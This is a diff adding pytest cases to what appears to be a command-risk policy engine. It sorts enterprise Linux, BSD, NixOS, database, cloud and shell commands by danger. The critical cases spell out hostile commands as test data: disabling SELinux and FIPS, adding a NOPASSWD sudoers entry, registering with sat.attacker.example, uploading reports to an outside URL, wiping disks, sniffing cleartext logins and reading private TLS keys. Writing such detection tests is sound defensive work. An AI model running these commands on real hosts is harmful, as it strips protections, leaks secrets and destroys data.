@@ -445,3 +445,240 @@ def test_telephony_and_media_forms_that_cut_calls_run_code_or_send_media_are_typ
     engine: PolicyEngine, cmd: str, level: str, rule: str | None
 ) -> None:
     _check(engine, cmd, level, rule)
+
+
+# Enterprise Linux's protections taken away: SELinux, kernel arguments, the crypto policy
+# and FIPS, who may log in (realm, FreeIPA), the password policy, security daemons, the
+# package history rolled back to the install, a foreign registration server, reports
+# uploaded, a whole remediation profile applied.
+ENTERPRISE_LINUX = [
+    _case("semanage permissive -a unconfined_service_t", "critical", "selinux.protection_off"),
+    _case("semanage module -d sandbox", "critical"),
+    _case("semodule -r permissivedomains", "critical"),
+    _case("semanage login -a -s unconfined_u -r s0-s0:c0.c1023 contractor7", "critical"),
+    _case("setsebool -P secure_mode_policyload=off && semodule -DB", "critical"),
+    _case("setsebool -P deny_ptrace 0", "critical"),
+    _case("semanage permissive -l", "none"),
+    _case("semanage port -a -t http_port_t -p tcp 8443", "action"),
+    _case("setsebool -P httpd_can_network_connect on", "action"),
+    _case("semanage login -a -s user_u contractor7", "action"),
+    _case("grubby --update-kernel=ALL --args=selinux=0", "critical", "boot.security_off_args"),
+    _case("grubby --update-kernel=ALL --args='init=/bin/bash'", "critical"),
+    _case("grubby --update-kernel=ALL --args='quiet audit=0'", "critical"),
+    _case("grubby --update-kernel=ALL --args='mitigations=auto'", "action"),
+    _case("grubby --info=ALL", "none"),
+    _case("update-crypto-policies --set LEGACY && systemctl restart sshd", "critical"),
+    _case("fips-mode-setup --disable", "critical", "crypto_policy.weakened"),
+    _case("update-crypto-policies --set DEFAULT:SHA1", "action"),
+    _case("update-crypto-policies --show", "none"),
+    _case("fips-mode-setup --check", "none"),
+    _case("realm permit --all", "critical", "realm.permit_all"),
+    _case("realm permit -g linux-admins@CORP.EXAMPLE", "action"),
+    _case("ipa hbacrule-enable allow_all", "critical", "ipa.access_widened"),
+    _case("ipa sudorule-add all --cmdcat=all --usercat=all", "critical"),
+    _case("ipa group-add-member admins --users=eve", "critical"),
+    _case("ipa pwpolicy-mod --minlength=1 --minclasses=0 --maxfail=0", "critical"),
+    _case("ipa pwpolicy-mod --minlength=14", "action"),
+    _case("ipa hbacrule-find --all", "none"),
+    _case("systemctl disable --now fapolicyd", "critical", "security.service_off"),
+    _case("systemctl stop usbguard", "critical"),
+    _case("systemctl restart fapolicyd", "action"),
+    _case("dnf history undo 1 -y", "critical", "dnf.history_rollback"),
+    _case("dnf history rollback 12 -y", "critical"),
+    _case("dnf history undo 41 -y", "action"),
+    _case("yum history undo 5 --assumeno", "none"),
+    _case(
+        "subscription-manager register --org=7654321 --activationkey=ak-dev --force "
+        "--serverurl=https://sat.attacker.example",
+        "critical",
+        "rhel.foreign_server",
+    ),
+    _case(
+        "subscription-manager register --org=1 --activationkey=ak "
+        "--serverurl=https://satellite.corp.internal",
+        "action",
+    ),
+    _case("sos report --batch --upload --upload-url https://files.example/up", "critical"),
+    _case("sosreport --list-plugins", "none"),
+    _case(
+        "oscap xccdf eval --remediate --profile stig "
+        "/usr/share/xml/scap/ssg/content/ssg-rhel9-ds.xml",
+        "critical",
+        "oscap.remediate",
+    ),
+    _case(
+        "oscap xccdf eval --profile stig /usr/share/xml/scap/ssg/content/ssg-rhel9-ds.xml",
+        "none",
+    ),
+    _case("rpm-ostree rebase ostree-unverified-registry:quay.io/someone/os:latest", "critical"),
+    _case("bootc switch --transport registry ghcr.io/eve-example/os:latest --apply", "critical"),
+    _case("bootc switch registry.corp.internal/os/rhel:9.4", "action"),
+    _case("rpm-ostree upgrade", "action"),
+    _case("rpm-ostree status -v", "none"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "level", "rule"), ENTERPRISE_LINUX)
+def test_enterprise_linux_protections_taken_away_are_typed(
+    engine: PolicyEngine, cmd: str, level: str, rule: str | None
+) -> None:
+    _check(engine, cmd, level, rule)
+
+
+# The BSDs and NixOS: packages from outside, the host cut off at the next restart, disks'
+# tables destroyed, devices detached, the firewall's module unloaded or its states killed,
+# the next boot elsewhere, DTrace's destructive actions, vital services and every VM
+# stopped; every rollback point deleted, the system set to a store path.
+BSD_AND_NIX = [
+    _case("pkg add https://198.51.100.80/pkgs/sshd-helper.pkg", "critical", "pkg.foreign_package"),
+    _case("pkg info | wc -l ; pkg delete -fy pkg", "critical", "pkg.delete_all"),
+    _case("pkg add /var/cache/pkg/nginx-1.26.pkg", "action"),
+    _case("pkg install -y nginx", "action"),
+    _case("pkg info", "none"),
+    _case("sysrc -x ifconfig_vtnet0 && service netif restart", "critical", "sysrc.cut_off"),
+    _case("sysrc sshd_enable=NO", "critical"),
+    _case("sysrc nginx_enable=YES", "action"),
+    _case("sysrc -n ifconfig_vtnet0", "none"),
+    _case("pfctl -k 0.0.0.0/0", "critical", "pfctl.kill_all"),
+    _case("pfctl -k 203.0.113.9", "action"),
+    _case("gpart destroy -F ada0", "critical", "gpart_bsd.destroy"),
+    _case("true && true && true && gpart destroy -F da1", "critical"),
+    _case("gpart show ada0", "none"),
+    _case("gpart /dev/sdb", "none"),
+    _case("devctl detach ix0", "critical", "devctl.detach"),
+    _case("devctl attach ix0", "action"),
+    _case("kldunload -f pf", "critical", "kldunload.protection"),
+    _case("kldunload if_wg", "action"),
+    _case("zfsbootcfg 'zfs:zroot/ROOT/rescue-eve:'", "critical"),
+    _case(
+        'dtrace -w -n \'syscall::read:entry /execname == "sshd"/ { system("kill -9 %d", pid); }\'',
+        "critical",
+        "dtrace.destructive",
+    ),
+    _case("dtrace -l", "none"),
+    _case("rcctl stop sshd", "critical", "rcctl.vital"),
+    _case("rcctl stop nginx", "action"),
+    _case("rcctl get sshd", "none"),
+    _case("vmctl stop -f -a", "critical", "vmctl_bsd.stop_all"),
+    _case("vmctl status", "none"),
+    _case("vmctl prometheus --prom-snapshot=/srv/snap --vm-addr=http://vm1:8428", "action"),
+    _case("coproc SH { bash; }; echo 'pfctl -d' >&\"${SH[1]}\"", "critical"),
+    _case("n'i'x-collect-garbage -d", "critical", "nix.rollback_points_deleted"),
+    _case(
+        "nix-collect-garbage -d && nix-env -p /nix/var/nix/profiles/system "
+        "--delete-generations old",
+        "critical",
+    ),
+    _case("nix store delete --ignore-liveness /nix/store/*-glibc-*", "critical"),
+    _case(
+        "nix-env --profile /nix/var/nix/profiles/system --set /nix/store/z9y8-nixos-system-evil",
+        "critical",
+    ),
+    _case("nix-collect-garbage --delete-older-than 30d", "action"),
+    _case("nix-env --delete-generations old", "action"),
+    _case("nix-collect-garbage --dry-run", "none"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "level", "rule"), BSD_AND_NIX)
+def test_bsd_and_nix_forms_that_cut_the_host_off_or_its_rollback_are_typed(
+    engine: PolicyEngine, cmd: str, level: str, rule: str | None
+) -> None:
+    _check(engine, cmd, level, rule)
+
+
+# Databases and clouds: one copy of the data, a store deleted through tiup, an Atlas
+# administrator, pg_hba trust, a snapshot shared with everyone, a physical import, and
+# the cleartext logins a capture prints.
+DATA_AND_CLOUD = [
+    _case("pd-ctl -u http://pd-1:2379 config set max-replicas 1", "critical", "replicas.one_copy"),
+    _case("ceph osd pool set rbd size 1", "critical"),
+    _case("ceph osd pool set rbd size 3", "action"),
+    _case("pd-ctl -u http://pd1:2379 config set max-replicas 5", "action"),
+    _case("tiup ctl:v8.1.0 pd -u http://pd-1:2379 store delete 4", "critical"),
+    _case("tiup ctl:v8.1.0 pd -u http://pd-1:2379 store", "action"),
+    _case(
+        "mongocli atlas dbusers create --username x --password x --role atlasAdmin "
+        "--projectId 5f1a2b3c4d5e6f7a8b9c0d1e",
+        "critical",
+        "atlas.admin_user",
+    ),
+    _case("mongocli atlas dbusers create --username app --role readWrite@orders", "action"),
+    _case(
+        "patronictl -c /etc/patroni/pg-orders.yml edit-config orders -s "
+        "'postgresql.pg_hba=[\"host all all 0.0.0.0/0 trust\"]' --force",
+        "critical",
+        "patroni.hba_trust",
+    ),
+    _case(
+        "patronictl -c /etc/patroni/pg-orders.yml edit-config orders -p 'work_mem=64MB' --force",
+        "action",
+    ),
+    _case(
+        "aws rds modify-db-snapshot-attribute --db-snapshot-identifier orders-pre-1207 "
+        "--attribute-name restore --values-to-add all",
+        "critical",
+        "cloud.public_grant",
+    ),
+    _case(
+        "aws rds modify-db-snapshot-attribute --db-snapshot-identifier s "
+        "--attribute-name restore --values-to-add 123456789012",
+        "action",
+    ),
+    _case(
+        "tidb-lightning -backend local -tidb-host tidb-1 -d s3://acme-dumps/orders "
+        "-sorted-kv-dir /srv/lightning",
+        "critical",
+        "tidb_lightning.physical",
+    ),
+    _case("tidb-lightning -backend tidb -tidb-host tidb-1 -d /srv/dump", "action"),
+    _case("tcpdump -nni bond0 -A -s0 'tcp port 110 or tcp port 143'", "critical"),
+    _case("tcpdump -nni eth0 port 110", "none"),
+    _case("tcpdump -A -c 10 port 53", "none"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "level", "rule"), DATA_AND_CLOUD)
+def test_data_left_single_shared_or_sniffed_is_typed(
+    engine: PolicyEngine, cmd: str, level: str, rule: str | None
+) -> None:
+    _check(engine, cmd, level, rule)
+
+
+# Shells and interpreters: fish's loops, csh's setenv, root's whole crontab replaced, a
+# delete or a write inside a walk of a tree, an access configuration replaced by a temp
+# file, a pattern over the mail queue, keys found by find -exec in RHEL's key folder.
+SHELLS_AND_CODE = [
+    _case("fish -c 'for f in /var/spool/postfix/*/*; rm -f $f; end'", "critical"),
+    _case("rm -f /var/spool/postfix/deferred/A/ABC123", "action"),
+    _case(
+        "tcsh -c 'setenv X /etc/sudoers.d; echo \"c9 ALL=(ALL) NOPASSWD:ALL\" > $X/90-c9'",
+        "critical",
+    ),
+    _case("yash -c 'crontab -l -u root | sed /backup/d | crontab -u root -'", "critical"),
+    _case("crontab -u root /tmp/x", "critical", "cron.root_replaced"),
+    _case("crontab -u deploy /srv/ops/deploy.cron", "action"),
+    _case("crontab -e -u root", "action"),
+    _case("crontab -l -u root", "none"),
+    _case(
+        "perl -MFile::Find -e 'finddepth(sub { unlink }, \"/var/lib/barman/pg-main\")'",
+        "critical",
+    ),
+    _case(
+        'ruby -e \'Dir.glob("/home/*/public_html/**/*.php").each { |f| File.write(f, "") }\'',
+        "critical",
+    ),
+    _case('ruby -e \'File.write("/srv/app/VERSION", "1.2")\'', "action"),
+    _case("ruby -e 'Dir.glob(\"/srv/app/**/*.rb\").each { |f| puts f }'", "none"),
+    _case("cat /tmp/pf-open.conf > /etc/pf.conf && pfctl -f /etc/pf.conf", "critical"),
+    _case("cat /srv/ops/pf.conf > /etc/pf.conf", "action"),
+    _case("find /etc/pki/tls/private -type f -printf '%p\\n' -exec cat {} \\;", "critical"),
+    _case("setenv EDITOR vim", "none"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "level", "rule"), SHELLS_AND_CODE)
+def test_other_shells_walkers_and_crontabs_are_judged_by_what_they_do(
+    engine: PolicyEngine, cmd: str, level: str, rule: str | None
+) -> None:
+    _check(engine, cmd, level, rule)
